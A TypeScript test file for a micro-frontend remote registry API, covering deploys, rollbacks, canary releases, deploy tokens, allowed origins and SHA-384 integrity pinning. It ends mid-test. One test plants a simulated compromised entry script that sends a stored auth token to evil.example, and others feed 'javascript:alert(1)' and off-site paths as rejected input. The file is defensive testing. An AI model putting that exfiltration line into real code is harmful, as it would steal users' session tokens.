// The remote registry: the shell's remotes.json read from one place, deploy and rollback
// switching it in one transaction with the audit log saying who and what was pinned, a version
// deployed once, raced deploys leaving one current release, and the writes closed to anyone
// without a deploy token: a team's token deploys its own remote only, and admins create, list and
// revoke tokens and each remote's allowed origins. The API checks every release itself: it reads
// the manifest and entry from a loopback server here (never the internet), from the remote's
// allowed origins only, and pins their SHA-384.
import { createServer, type Server } from 'node:http';
import { createHash } from 'node:crypto';
import { apiContractVersion } from '@ejdesk/contract';
import { auditLog, createUser, deployRemote, deployTokens, inCanaryShare, recordConfiguredDeployToken } from '@ejdesk/db';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../src/config.ts';
import { admin, backends, createTestApp, login, operator, type TestApp } from './helpers.ts';

const token = 'deploy-token-for-tests-0123456789';
const descriptor = (extra: Record<string, unknown> = {}) => ({
  name: 'admin',
  section: 'admin lists',
  role: 'admin',
  paths: ['bank-msp-list'],
  nav: [{ label: 'Bank MSP List', path: '/bank-msp-list', order: 80 }],
  screens: { 'bank msp list': '/bank-msp-list' },
  contract: 1,
  ...extra,
});

/**
 * The remotes' builds as a CDN would serve them, on loopback: /NAME/VERSION/mf-manifest.json and
 * its remoteEntry.js for any name and version, and whatever a test puts in `files` (a body, a
 * status, a redirect) at a path of its own.
 */
const files = new Map<string, { status?: number; body?: string; location?: string }>();
const manifestOf = (name: string) =>
  JSON.stringify({
    id: name,
    name,
    metaData: { name, remoteEntry: { name: 'remoteEntry.js', path: '', type: 'global' }, globalName: name, publicPath: 'auto' },
    shared: [],
    remotes: [],
    exposes: [{ id: `${name}:routes`, name: 'routes', path: './routes' }],
  });
const entryOf = (name: string, version: string) => `var ${name}; /* ${name} ${version} */`;
const cdn: Server = createServer((request, response) => {
  const path = request.url!;
  const file = files.get(path);
  if (file) {
    if (file.location) response.writeHead(file.status ?? 302, { location: file.location });
    else response.writeHead(file.status ?? 200, { 'content-type': 'application/json' });
    return void response.end(file.body ?? '');
  }
  const built = /^\/([a-z]+)\/([^/]+)\/(mf-manifest\.json|remoteEntry\.js)$/.exec(path);
  if (!built) return void response.writeHead(404).end('Not found');
  const [, name, version, file_] = built;
  response.writeHead(200).end(file_ === 'mf-manifest.json' ? manifestOf(name!) : entryOf(name!, version!));
});
let origin = '';
/** The same server under another origin: not one the remotes may come from unless an admin adds it. */
let elsewhere = '';
beforeAll(async () => {
  await new Promise<void>((done) => cdn.listen(0, '127.0.0.1', done));
  const { port } = cdn.address() as { port: number };
  origin = `http://127.0.0.1:${port}`;
  elsewhere = `http://localhost:${port}`;
});
afterAll(() => new Promise<void>((done) => cdn.close(() => done())));

const sri = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`;
const manifestUrl = (name: string, version: string) => `${origin}/${name}/${version}/mf-manifest.json`;
/** What the audit line says the API pinned for a release served by the loopback CDN. */
const pinned = (name: string, version: string) =>
  `manifest ${manifestUrl(name, version)} ${sri(manifestOf(name))}, entry ${origin}/${name}/${version}/remoteEntry.js ${sri(entryOf(name, version))}`;
const release = (version: string, extra: Record<string, unknown> = {}) => {
  const declared = descriptor(extra);
  return { version, manifest: manifestUrl(declared.name as string, version), descriptor: declared, by: 'release-bot' };
};

describe('REMOTE_ORIGINS', () => {
  it('gives each remote its origins, and a pair naming no remote or no bare origin stops the process, named', () => {
    expect(loadConfig({ REMOTE_ORIGINS: 'email=http://localhost:3001, admin=https://CDN.bank.example/,admin=http://localhost:3004' }).remoteOrigins).toEqual({
      email: ['http://localhost:3001'],
      admin: ['https://cdn.bank.example', 'http://localhost:3004'],
    });
    expect(loadConfig({}).remoteOrigins).toEqual({});
    expect(() => loadConfig({ REMOTE_ORIGINS: 'billing=https://cdn.bank.example' })).toThrow(
      "REMOTE_ORIGINS names 'billing', which is not a remote (email, ej, files, admin): write NAME=ORIGIN pairs.",
    );
    expect(() => loadConfig({ REMOTE_ORIGINS: 'https://cdn.bank.example' })).toThrow(
      /REMOTE_ORIGINS names 'https:\/\/cdn.bank.example', which is not a remote/,
    );
    expect(() => loadConfig({ REMOTE_ORIGINS: 'email=https://cdn.bank.example/email/' })).toThrow(
      "REMOTE_ORIGINS gives email 'https://cdn.bank.example/email/', which is not an http(s) origin (scheme, host and port only).",
    );
    expect(() => loadConfig({ REMOTE_ORIGINS: 'email=javascript:alert(1)' })).toThrow(/not an http\(s\) origin/);
  });
});

describe.each(backends)('the remote registry on %s', (backend) => {
  let t: TestApp;
  beforeAll(async () => {
    // Every remote may come from the loopback CDN's first origin (as REMOTE_ORIGINS would say).
    t = await createTestApp(backend, {
      deployToken: token,
      canaryRollbackFailures: 2,
      remoteOrigins: { admin: [origin], email: [origin], ej: [origin], files: [origin] },
    });
  });
  afterAll(() => t.close());

  const write = (url: string, payload: unknown, auth = `Bearer ${token}`) =>
    t.app.inject({ method: 'POST', url, headers: { authorization: auth }, payload: payload as object });
  const registry = async () =>
    (await t.app.inject({ method: 'GET', url: '/api/registry/' })).json().remotes as { name: string; version: string; nav: unknown[]; manifest: string }[];
  const status = async () =>
    (await t.app.inject({ method: 'GET', url: '/api/registry/status/', headers: { authorization: `JWT ${(await login(t.app, admin)).access}` } })).json() as {
      name: string;
      current: { version: string; load_failures: number };
      canary: { version: string; percent: number; load_failures: number } | null;
    }[];

  it('starts empty, and a deploy makes the release current with what its build declared', async () => {
    expect(await registry()).toEqual([]);
    const deployed = await write('/api/registry/admin/releases/', release('1.0.0'));
    expect(deployed.statusCode).toBe(201);
    expect(deployed.json()).toEqual({ name: 'admin', from: null, to: '1.0.0' });
    const response = await t.app.inject({ method: 'GET', url: '/api/registry/' });
    expect(response.headers['cache-control']).toBe('no-cache');
    expect(response.json().api_contract).toBe(apiContractVersion);
    expect(response.json().remotes).toEqual([
      {
        ...descriptor(),
        version: '1.0.0',
        manifest: manifestUrl('admin', '1.0.0'),
        entry: `${origin}/admin/1.0.0/remoteEntry.js`,
        integrity: { entry: sri(entryOf('admin', '1.0.0')), manifest: sri(manifestOf('admin')) },
      },
    ]);
  });

  it('a second deploy switches, a rollback goes back one release, and the audit log says who', async () => {
    const extra = { nav: [...descriptor().nav, { label: 'Release Notes', path: '/release-notes', order: 95 }], paths: ['bank-msp-list', 'release-notes'] };
    expect((await write('/api/registry/admin/releases/', release('1.1.0', extra))).json()).toEqual({ name: 'admin', from: '1.0.0', to: '1.1.0' });
    expect((await registry())[0]).toMatchObject({ version: '1.1.0', nav: extra.nav });

    const back = await write('/api/registry/admin/rollback/', { by: 'ana' });
    expect(back.statusCode).toBe(200);
    expect(back.json()).toEqual({ name: 'admin', from: '1.1.0', to: '1.0.0' });
    expect((await registry())[0]).toMatchObject({ version: '1.0.0', nav: descriptor().nav });

    const first = await write('/api/registry/admin/rollback/', { by: 'ana' });
    expect(first.statusCode).toBe(409);
    expect(first.json().detail).toMatch(/first release: there is nothing to roll back to/);
    expect((await registry())[0]!.version).toBe('1.0.0');

    const history = await t.app.inject({ method: 'GET', url: '/api/registry/releases/?name=admin', headers: { authorization: `Bearer ${token}` } });
    expect(history.json().map((r: { version: string; current: boolean; deployed_by: string }) => [r.version, r.current, r.deployed_by])).toEqual([
      ['1.1.0', false, 'release-bot'],
      ['1.0.0', true, 'release-bot'],
    ]);
    const audits = (await t.database.db.select().from(auditLog).orderBy(auditLog.id)).filter((r) => r.entity === 'remote');
    expect(audits.map((r) => [r.action, r.entityId, r.detail])).toEqual([
      ['deploy', 'admin', `none -> 1.0.0 by release-bot with the token REMOTE_DEPLOY_TOKEN; ${pinned('admin', '1.0.0')}`],
      ['deploy', 'admin', `1.0.0 -> 1.1.0 by release-bot with the token REMOTE_DEPLOY_TOKEN; ${pinned('admin', '1.1.0')}`],
      ['rollback', 'admin', '1.1.0 -> 1.0.0 by ana with the token REMOTE_DEPLOY_TOKEN'],
    ]);
  });

  it('a version is deployed once: the same version again is refused and changes nothing', async () => {
    const again = await write('/api/registry/admin/releases/', release('1.1.0'));
    expect(again.statusCode).toBe(409);
    expect(again.json().detail).toBe('admin 1.1.0 is already deployed: give the new build a new version');
    expect((await registry())[0]!.version).toBe('1.0.0');
  });

  it('parallel deploys of one remote leave exactly one current release, and each switch is audited', async () => {
    const versions = ['2.0.0', '2.0.1', '2.0.2', '2.0.3', '2.0.4', '2.0.5'];
    const answers = await Promise.all(versions.map((v) => write('/api/registry/admin/releases/', release(v))));
    expect(answers.map((a) => a.statusCode)).toEqual(versions.map(() => 201));
    // Each switch saw the one before it: the "from" versions chain with no gap and no repeat.
    const froms = answers.map((a) => a.json().from as string);
    expect(new Set(froms).size).toBe(versions.length);
    const current = await registry();
    expect(current).toHaveLength(1);
    expect(versions).toContain(current[0]!.version);
    expect(froms).not.toContain(current[0]!.version);
  });

  it('writes need the deployers\u2019 token; bad input is a 400 naming the field and changes nothing', async () => {
    const before = await registry();
    expect((await write('/api/registry/admin/releases/', release('9.0.0'), '')).statusCode).toBe(401);
    expect((await write('/api/registry/admin/releases/', release('9.0.0'), `Bearer ${token}x`)).statusCode).toBe(401);
    expect((await write('/api/registry/admin/rollback/', { by: 'x' }, 'JWT abc')).statusCode).toBe(401);
    expect((await t.app.inject({ method: 'GET', url: '/api/registry/releases/' })).statusCode).toBe(401);
    const bad: [string, string, unknown, RegExp][] = [
      ['a name that differs from the descriptor', '/api/registry/email/releases/', release('9.0.0'), /descriptor.name is 'admin', not 'email'/],
      ['a bad name', '/api/registry/Admin%20x/releases/', release('9.0.0'), /name/],
      ['a version with a slash', '/api/registry/admin/releases/', release('../9'), /version/],
      ['a manifest that is not a URL', '/api/registry/admin/releases/', { ...release('9.0.0'), manifest: 'javascript:alert(1)' }, /manifest/],
      [
        'a nav path outside the app',
        '/api/registry/admin/releases/',
        release('9.0.0', { nav: [{ label: 'x', path: 'https://evil.example', order: 1 }] }),
        /path/,
      ],
      ['no body', '/api/registry/admin/releases/', undefined, /body/],
      ['an extra field', '/api/registry/admin/releases/', { ...release('9.0.0'), current: true }, /unknown field 'current'/],
      ['a rollback with no one named', '/api/registry/admin/rollback/', {}, /'by' is required/],
    ];
    for (const [what, url, payload, detail] of bad) {
      const response = await write(url, payload);
      expect(response.statusCode, what).toBe(400);
      expect(response.json().detail, what).toMatch(detail);
    }
    expect((await write('/api/registry/files/rollback/', { by: 'x' })).statusCode).toBe(409);
    expect(await registry()).toEqual(before);
  });

  describe('rollback and withdraw', () => {
    const ejRelease = (version: string, canary?: number) => ({
      ...release(version, { name: 'ej', role: undefined, section: 'EJ data', paths: ['ej-trust'], nav: [], screens: {} }),
      ...(canary ? { canary } : {}),
    });
    const deploy = (version: string, canary?: number) => write('/api/registry/ej/releases/', ejRelease(version, canary));
    const rollback = () => write('/api/registry/ej/rollback/', { by: 'ana' });
    const withdraw = (version: string, auth?: string) => write('/api/registry/ej/withdraw/', { version, by: 'ana' }, auth);
    const ejVersion = async () => (await registry()).find((r) => r.name === 'ej')?.version;

    it('a release rolled back from is never returned to: v1, v2 rolled back to v1, v3 rolled back goes to v1', async () => {
      expect((await deploy('1.0.0')).statusCode).toBe(201);
      expect((await deploy('2.0.0')).statusCode).toBe(201);
      expect((await rollback()).json()).toEqual({ name: 'ej', from: '2.0.0', to: '1.0.0' });
      expect((await deploy('3.0.0')).statusCode).toBe(201);
      const back = await rollback();
      expect(back.statusCode).toBe(200);
      expect(back.json()).toEqual({ name: 'ej', from: '3.0.0', to: '1.0.0' });
      expect(await ejVersion()).toBe('1.0.0');
      // A canary ended by a rollback is rolled back from too.
      expect((await deploy('4.0.0', 50)).statusCode).toBe(201);
      expect((await rollback()).json()).toEqual({ name: 'ej', from: '4.0.0', to: '1.0.0' });
      expect((await deploy('5.0.0')).statusCode).toBe(201);
      expect((await rollback()).json()).toEqual({ name: 'ej', from: '5.0.0', to: '1.0.0' });
      const history = await t.app.inject({ method: 'GET', url: '/api/registry/releases/?name=ej', headers: { authorization: `Bearer ${token}` } });
      expect(history.json().map((r: { version: string; current: boolean; rolled_back: boolean }) => [r.version, r.current, r.rolled_back])).toEqual([
        ['5.0.0', false, true],
        ['4.0.0', false, true],
        ['3.0.0', false, true],
        ['2.0.0', false, true],
        ['1.0.0', true, false],
      ]);
    });

    it('an admin promotes a canary and rolls back from the Releases screen, by the same rules; others may not', async () => {
      const adminJwt = `JWT ${(await login(t.app, admin)).access}`;
      const fromScreen = (action: string, auth = adminJwt, name = 'ej') =>
        t.app.inject({ method: 'POST', url: `/api/registry/${name}/console/${action}/`, headers: { authorization: auth } });
      expect((await deploy('5.1.0', 20)).statusCode).toBe(201);
      // Not an admin, or a deploy token: refused, nothing switched.
      expect((await fromScreen('promote', `JWT ${(await login(t.app)).access}`)).statusCode).toBe(403);
      expect((await fromScreen('promote', `Bearer ${token}`)).statusCode).toBe(401);
      expect((await fromScreen('promote', adminJwt, 'nope')).statusCode).toBe(404);
      expect((await fromScreen('promote', adminJwt, 'Bad_Name')).statusCode).toBe(400);
      expect((await status()).find((s) => s.name === 'ej')!.canary).toMatchObject({ version: '5.1.0', percent: 20 });

      const promoted = await fromScreen('promote');
      expect(promoted.json()).toEqual({ name: 'ej', from: '1.0.0', to: '5.1.0' });
      expect(await ejVersion()).toBe('5.1.0');
      expect((await fromScreen('promote')).statusCode).toBe(409);
      expect((await fromScreen('rollback')).json()).toEqual({ name: 'ej', from: '5.1.0', to: '1.0.0' });
      expect(await ejVersion()).toBe('1.0.0');
      const audits = (await t.database.db.select().from(auditLog).orderBy(auditLog.id)).filter((r) => r.entity === 'remote' && r.entityId === 'ej');
      expect(audits.slice(-2).map((r) => [r.action, r.detail])).toEqual([
        ['promote', expect.stringContaining('by admin@example.com with the token of the Releases screen')],
        ['rollback', '5.1.0 -> 1.0.0 by admin@example.com with the token of the Releases screen'],
      ]);
    });

    it('a withdrawn release is never served nor rolled back to; withdrawing the current one serves the last good one before it', async () => {
      expect((await deploy('6.0.0')).statusCode).toBe(201);
      // Withdrawn while not current: a later rollback passes over it.
      expect((await withdraw('1.0.0')).json()).toEqual({ name: 'ej', version: '1.0.0', current: '6.0.0' });
      const none = await rollback();
      expect(none.statusCode).toBe(409);
      expect(none.json().detail).toMatch(/no earlier release to roll back to: each was withdrawn, rolled back from/);
      expect(await ejVersion()).toBe('6.0.0');

      // The current one, with a good one before it: that one is current again.
      expect((await deploy('7.0.0')).statusCode).toBe(201);
      expect((await withdraw('7.0.0')).json()).toEqual({ name: 'ej', version: '7.0.0', current: '6.0.0' });
      expect(await ejVersion()).toBe('6.0.0');

      // A canary: it ends, and everyone has the current release.
      expect((await deploy('8.0.0', 99)).statusCode).toBe(201);
      expect((await withdraw('8.0.0')).json()).toEqual({ name: 'ej', version: '8.0.0', current: '6.0.0' });
      expect((await status()).find((s) => s.name === 'ej')!.canary).toBeNull();

      // The current one with nothing good before it: the remote is served no release until its next deploy.
      expect((await withdraw('6.0.0')).json()).toEqual({ name: 'ej', version: '6.0.0', current: null });
      expect(await ejVersion()).toBeUndefined();
      expect((await deploy('9.0.0')).json()).toEqual({ name: 'ej', from: null, to: '9.0.0' });
      expect((await rollback()).statusCode).toBe(409);
      expect(await ejVersion()).toBe('9.0.0');

      const again = await withdraw('6.0.0');
      expect([again.statusCode, again.json().detail]).toEqual([409, 'ej 6.0.0 is withdrawn already']);
      const unknown = await withdraw('0.0.9');
      expect([unknown.statusCode, unknown.json().detail]).toEqual([404, 'ej has no release 0.0.9']);
      for (const [payload, detail] of [
        [{ by: 'ana' }, /version/],
        [{ version: '../1', by: 'ana' }, /version/],
        [{ version: '9.0.0' }, /by/],
      ] as const) {
        const bad = await write('/api/registry/ej/withdraw/', payload);
        expect(bad.statusCode).toBe(400);
        expect(bad.json().detail).toMatch(detail);
      }
      expect((await withdraw('9.0.0', '')).statusCode).toBe(401);

      const audits = (await t.database.db.select().from(auditLog).orderBy(auditLog.id)).filter(
        (r) => r.entity === 'remote' && r.entityId === 'ej' && r.action === 'withdraw',
      );
      expect(audits.map((r) => r.detail)).toEqual([
        '1.0.0 withdrawn by ana with the token REMOTE_DEPLOY_TOKEN',
        '7.0.0 withdrawn: 7.0.0 -> 6.0.0 by ana with the token REMOTE_DEPLOY_TOKEN',
        '8.0.0 withdrawn: the canary ended, 6.0.0 for every operator, by ana with the token REMOTE_DEPLOY_TOKEN',
        '6.0.0 withdrawn: no release of ej is served now by ana with the token REMOTE_DEPLOY_TOKEN',
      ]);
    });
  });

  describe('canary releases', () => {
    const filesRelease = (version: string) => release(version, { name: 'files', paths: ['files'], nav: [], screens: {} });
    const canaryRelease = (version: string, canary: number) => ({ ...filesRelease(version), canary });
    /** The files remote's version in the registry as an operator's shell reads it. */
    const versionFor = async (userId: number) => {
      const answer = await t.app.inject({
        method: 'GET',
        url: '/api/registry/',
        headers: { authorization: `JWT ${t.app.ctx.tokens.issue(userId, 'access')}` },
      });
      return (answer.json().remotes as { name: string; version: string }[]).find((r) => r.name === 'files')!.version;
    };

    // 2,000 reads of the registry: more than 30 s on a busy machine.
    it('a first release cannot be a canary; a canary reaches its share of 1,000 operators, each always the same', async () => {
      const first = await write('/api/registry/files/releases/', canaryRelease('1.0.0', 10));
      expect(first.statusCode).toBe(409);
      expect(first.json().detail).toMatch(/first one goes to every operator/);
      expect((await write('/api/registry/files/releases/', filesRelease('1.0.0'))).statusCode).toBe(201);
      const deployed = await write('/api/registry/files/releases/', canaryRelease('1.1.0', 20));
      expect(deployed.statusCode).toBe(201);
      expect(deployed.json()).toEqual({ name: 'files', from: '1.0.0', to: '1.1.0' });

      const operators = Array.from({ length: 1000 }, (_, i) => 1000 + i);
      const first1000 = await Promise.all(operators.map(versionFor));
      const share = first1000.filter((v) => v === '1.1.0').length / 10;
      expect(Math.abs(share - 20)).toBeLessThanOrEqual(5);
      expect(first1000.filter((v) => v !== '1.1.0' && v !== '1.0.0')).toEqual([]);
      // Sticky: each operator gets the same release again.
      expect(await Promise.all(operators.map(versionFor))).toEqual(first1000);
      // Without an operator (the shell's server, a login page): the current release.
      expect((await registry()).find((r) => r.name === 'files')!.version).toBe('1.0.0');
      expect((await status()).find((s) => s.name === 'files')).toMatchObject({ current: { version: '1.0.0' }, canary: { version: '1.1.0', percent: 20 } });

      // One canary at a time: another deploy waits for its promotion or rollback.
      const during = await write('/api/registry/files/releases/', filesRelease('1.2.0'));
      expect(during.statusCode).toBe(409);
      expect(during.json().detail).toBe('files 1.1.0 is a canary now: promote it or roll it back first');
    }, 180_000);

    it('promote makes the canary every operator\u2019s; a rollback during a canary ends it', async () => {
      const promoted = await write('/api/registry/files/promote/', { by: 'ana' });
      expect(promoted.json()).toEqual({ name: 'files', from: '1.0.0', to: '1.1.0' });
      expect(new Set(await Promise.all([1000, 1001, 1002, 1003, 1004].map(versionFor)))).toEqual(new Set(['1.1.0']));
      expect((await write('/api/registry/files/promote/', { by: 'ana' })).statusCode).toBe(409);

      expect((await write('/api/registry/files/releases/', canaryRelease('1.2.0', 50))).statusCode).toBe(201);
      const ended = await write('/api/registry/files/rollback/', { by: 'ana' });
      expect(ended.json()).toEqual({ name: 'files', from: '1.2.0', to: '1.1.0' });
      expect(new Set(await Promise.all(Array.from({ length: 40 }, (_, i) => versionFor(2000 + i))))).toEqual(new Set(['1.1.0']));
      const audits = (await t.database.db.select().from(auditLog).orderBy(auditLog.id))
        .filter((r) => r.entity === 'remote' && r.entityId === 'files')
        .map((r) => [r.action, r.detail]);
      expect(audits).toEqual([
        ['deploy', `none -> 1.0.0 by release-bot with the token REMOTE_DEPLOY_TOKEN; ${pinned('files', '1.0.0')}`],
        ['deploy', `1.0.0 -> 1.1.0 for 20% of operators (canary) by release-bot with the token REMOTE_DEPLOY_TOKEN; ${pinned('files', '1.1.0')}`],
        ['promote', '1.0.0 -> 1.1.0 for every operator (was 20%) by ana with the token REMOTE_DEPLOY_TOKEN'],
        ['deploy', `1.1.0 -> 1.2.0 for 50% of operators (canary) by release-bot with the token REMOTE_DEPLOY_TOKEN; ${pinned('files', '1.2.0')}`],
        ['rollback', 'canary 1.2.0 ended, 1.1.0 for every operator, by ana with the token REMOTE_DEPLOY_TOKEN'],
      ]);
    });

    it('a canary that operators cannot load rolls back by itself past the threshold, counting each operator once', async () => {
      expect((await write('/api/registry/files/releases/', canaryRelease('1.3.0', 99))).statusCode).toBe(201);
      const report = (auth: string, payload: unknown) =>
        t.app.inject({ method: 'POST', url: '/api/registry/files/failures/', headers: { authorization: auth }, payload: payload as object });
      const operatorAuth = `JWT ${(await login(t.app, operator)).access}`;
      const adminAuth = `JWT ${(await login(t.app, admin)).access}`;
      const once = await report(operatorAuth, { version: '1.3.0' });
      expect(once.statusCode).toBe(202);
      expect(once.json()).toEqual({ load_failures: 1, rolled_back: false, counted: true });
      // The same operator again (a reload): still one.
      expect((await report(operatorAuth, { version: '1.3.0' })).json()).toEqual({ load_failures: 1, rolled_back: false, counted: true });
      expect((await status()).find((s) => s.name === 'files')!.canary).toMatchObject({ version: '1.3.0', load_failures: 1 });
      expect((await report(adminAuth, { version: '1.3.0' })).json()).toEqual({ load_failures: 2, rolled_back: true, counted: true });
      expect((await status()).find((s) => s.name === 'files')!.canary).toBeNull();
      expect(new Set(await Promise.all(Array.from({ length: 20 }, (_, i) => versionFor(3000 + i))))).toEqual(new Set(['1.1.0']));
      const last = (await t.database.db.select().from(auditLog).orderBy(auditLog.id)).filter((r) => r.entity === 'remote' && r.entityId === 'files').at(-1)!;
      expect([last.action, last.userId, last.detail]).toEqual([
        'rollback',
        null,
        'canary 1.3.0 rolled back by itself: 2 operators could not load it (threshold 2); 1.1.0 for every operator',
      ]);
      // A failure of the current release is counted, and rolls nothing back.
      expect((await report(operatorAuth, { version: '1.1.0' })).json()).toEqual({ load_failures: 1, rolled_back: false, counted: true });
      expect((await report(adminAuth, { version: '1.1.0' })).json()).toEqual({ load_failures: 2, rolled_back: false, counted: true });
      // Bad reports.
      expect((await report(operatorAuth, { version: '9.9.9' })).statusCode).toBe(404);
      expect((await report(operatorAuth, { version: '../x' })).statusCode).toBe(400);
      expect((await report(operatorAuth, {})).statusCode).toBe(400);
      expect((await report('', { version: '1.1.0' })).statusCode).toBe(401);
      expect((await report(`Bearer ${token}`, { version: '1.1.0' })).statusCode).toBe(401);
      const badPercent = await write('/api/registry/files/releases/', canaryRelease('1.4.0', 100));
      expect(badPercent.statusCode).toBe(400);
      expect(badPercent.json().detail).toMatch(/canary/);
    });

    it('reports from operators outside the canary\u2019s share are answered and not counted: they never roll it back', async () => {
      expect((await write('/api/registry/files/releases/', canaryRelease('1.5.0', 10))).statusCode).toBe(201);
      const report = (userId: number, version: string) =>
        t.app.inject({
          method: 'POST',
          url: '/api/registry/files/failures/',
          headers: { authorization: `JWT ${t.app.ctx.tokens.issue(userId, 'access')}` },
          payload: { version },
        });
      const outside: number[] = [];
      const inside: number[] = [];
      for (let i = 0; outside.length < 3 || inside.length < 1; i++) {
        const id = (await createUser(t.database.db, `share-${i}@example.com`, 'not-a-hash'))!.id;
        (inCanaryShare('files', id, 10) ? inside : outside).push(id);
      }
      // Three operators who are served 1.1.0 say the canary fails (the threshold is 2): not counted.
      for (const id of outside.slice(0, 3)) {
        const answer = await report(id, '1.5.0');
        expect(answer.statusCode).toBe(202);
        expect(answer.json()).toEqual({ load_failures: 0, rolled_back: false, counted: false });
      }
      expect((await status()).find((s) => s.name === 'files')!.canary).toMatchObject({ version: '1.5.0', load_failures: 0 });
      // Nor is one in the share about the current release, which it does not load.
      expect((await report(inside[0]!, '1.1.0')).json()).toMatchObject({ counted: false });
      // One in the share is counted.
      expect((await report(inside[0]!, '1.5.0')).json()).toEqual({ load_failures: 1, rolled_back: false, counted: true });
      expect((await write('/api/registry/files/rollback/', { by: 'ana' })).statusCode).toBe(200);
    });
  });

  describe('what the API checks of every release, whatever client deploys it', () => {
    const ejRelease = (version: string, extra: Record<string, unknown> = {}) =>
      release(version, { name: 'ej', role: undefined, section: 'EJ data', paths: ['ej-trust'], nav: [], screens: {}, ...extra });
    const deploy = (payload: unknown) => write('/api/registry/ej/releases/', payload);
    const ejAudits = async () =>
      (await t.database.db.select().from(auditLog).orderBy(auditLog.id)).filter((r) => r.entity === 'remote' && r.entityId === 'ej').length;
    /** A refused deploy: its status and detail, and nothing recorded or switched. */
    const refused = async (payload: unknown, status: number, detail: RegExp) => {
      const [before, audits] = [await registry(), await ejAudits()];
      const answer = await deploy(payload);
      expect(answer.statusCode, JSON.stringify(payload)).toBe(status);
      expect(answer.json().detail).toMatch(detail);
      expect(await registry()).toEqual(before);
      expect(await ejAudits()).toBe(audits);
      const history = await t.app.inject({ method: 'GET', url: '/api/registry/releases/?name=ej', headers: { authorization: `Bearer ${token}` } });
      expect(history.json().map((r: { version: string }) => r.version)).not.toContain((payload as { version: string }).version);
    };

    it("refuses a manifest off the remote's allowed origins before reading it", async () => {
      await refused(
        { ...ejRelease('20.0.0'), manifest: `${elsewhere}/ej/20.0.0/mf-manifest.json` },
        400,
        /ej 20\.0\.0 is refused: ej's manifest at http:\/\/localhost:\d+\/ej\/20\.0\.0\/mf-manifest\.json is on http:\/\/localhost:\d+, which is not one of the remote's allowed origins/,
      );
      // Another remote's origin is not this one's either.
      await refused(
        { ...ejRelease('20.0.1'), manifest: 'https://admin-cdn.example/ej/mf-manifest.json' },
        400,
        /https:\/\/admin-cdn\.example, which is not one/,
      );
      // A redirect is followed on the allowed origins only.
      files.set('/moved/mf-manifest.json', { status: 302, location: `${elsewhere}/ej/20.0.2/mf-manifest.json` });
      await refused({ ...ejRelease('20.0.2'), manifest: `${origin}/moved/mf-manifest.json` }, 400, /on http:\/\/localhost:\d+, which is not one/);
      files.set('/ftp/mf-manifest.json', { status: 301, location: 'ftp://127.0.0.1/mf-manifest.json' });
      await refused({ ...ejRelease('20.0.3'), manifest: `${origin}/ftp/mf-manifest.json` }, 400, /is not on http\(s\)/);
    });

    it("refuses paths another remote's current release or canary holds, or the shell's, and a side nav outside its own", async () => {
      await refused(ejRelease('21.0.0', { paths: ['ej-trust', 'bank-msp-list'] }), 409, /\/bank-msp-list belongs to the remote 'admin'/);
      await refused(ejRelease('21.0.1', { paths: ['login', 'ej-trust'] }), 409, /\/login is the shell's own/);
      // A path only the admin remote's canary has.
      const canary = await write('/api/registry/admin/releases/', { ...release('30.0.0', { paths: ['bank-msp-list', 'admin-preview'] }), canary: 10 });
      expect(canary.statusCode).toBe(201);
      await refused(ejRelease('21.0.2', { paths: ['ej-trust', 'admin-preview'] }), 409, /\/admin-preview belongs to the remote 'admin'/);
      expect((await write('/api/registry/admin/rollback/', { by: 'ana' })).statusCode).toBe(200);
      await refused(
        ejRelease('21.0.3', { nav: [{ label: 'Users', path: '/users', order: 1 }] }),
        400,
        /side nav or screens point outside the paths it owns: \/users/,
      );
      await refused(ejRelease('21.0.4', { screens: { 'mail flow': '/mail-flow' } }), 400, /outside the paths it owns: \/mail-flow/);
      await refused(ejRelease('21.0.5', { contract: apiContractVersion + 1 }), 400, new RegExp(`built against API contract ${apiContractVersion + 1}`));
      await refused(ejRelease('21.0.6', { contract: undefined }), 400, /built against API contract \(none\)/);
    });

    it('reads the manifest and entry itself: it must name the remote, expose ./routes and be small JSON; the entry must be there', async () => {
      const at = (path: string, body: string, status = 200) => {
        files.set(path, { status, body });
        return `${origin}${path}`;
      };
      const manifest = JSON.parse(manifestOf('ej')) as Record<string, unknown>;
      await refused(
        { ...ejRelease('22.0.0'), manifest: at('/a/mf-manifest.json', JSON.stringify({ ...manifest, exposes: [] })) },
        400,
        /does not expose \.\/routes/,
      );
      await refused(
        { ...ejRelease('22.0.1'), manifest: at('/b/mf-manifest.json', manifestOf('admin')) },
        400,
        /its manifest names the remote 'admin', not 'ej'/,
      );
      await refused({ ...ejRelease('22.0.2'), manifest: at('/c/mf-manifest.json', 'not json') }, 400, /is not JSON/);
      await refused({ ...ejRelease('22.0.3'), manifest: at('/d/mf-manifest.json', ' '.repeat(1024 * 1024 + 1)) }, 400, /is larger than 1024 KB/);
      await refused({ ...ejRelease('22.0.4'), manifest: at('/e/mf-manifest.json', '{}', 500) }, 400, /could not be read at .*: HTTP 500/);
      // The entry it names is read from the same allowed origins: missing, or elsewhere.
      await refused(
        { ...ejRelease('22.0.5'), manifest: at('/f/mf-manifest.json', manifestOf('ej')) },
        400,
        /ej's entry script could not be read at .*\/f\/remoteEntry\.js: HTTP 404/,
      );
      const offsite = { ...manifest, metaData: { ...(manifest.metaData as object), publicPath: `${elsewhere}/ej/` } };
      await refused(
        { ...ejRelease('22.0.6'), manifest: at('/g/mf-manifest.json', JSON.stringify(offsite)) },
        400,
        /entry script at http:\/\/localhost:\d+\/ej\/remoteEntry\.js is on/,
      );
    });

    it('pins what it read: a file changed after the deploy no longer has the integrity served', async () => {
      const deployed = await deploy(ejRelease('23.0.0'));
      expect(deployed.statusCode).toBe(201);
      const served = (await registry()).find((r) => r.name === 'ej') as unknown as { entry: string; integrity: { entry: string; manifest: string } };
      expect(served).toMatchObject({
        entry: `${origin}/ej/23.0.0/remoteEntry.js`,
        integrity: { entry: sri(entryOf('ej', '23.0.0')), manifest: sri(manifestOf('ej')) },
      });
      // The file at that URL changes (a compromised CDN, a re-upload): the browser's check of the
      // integrity served (the e2e test loads it) no longer matches it.
      files.set('/ej/23.0.0/remoteEntry.js', { body: 'fetch("https://evil.example/?t=" + localStorage.getItem("ejdesk.token"))' });
      const now = await (await fetch(served.entry)).text();
      expect(sri(now)).not.toBe(served.integrity.entry);
      expect((await registry()).find((r) => r.name === 'ej')).toMatchObject({ integrity: { entry: sri(entryOf('ej', '23.0.0')) } });
      files.delete('/ej/23.0.0/remoteEntry.js');
    });

    it("never serves a release off its remote's allowed origins, one recorded before the API checked included", async () => {
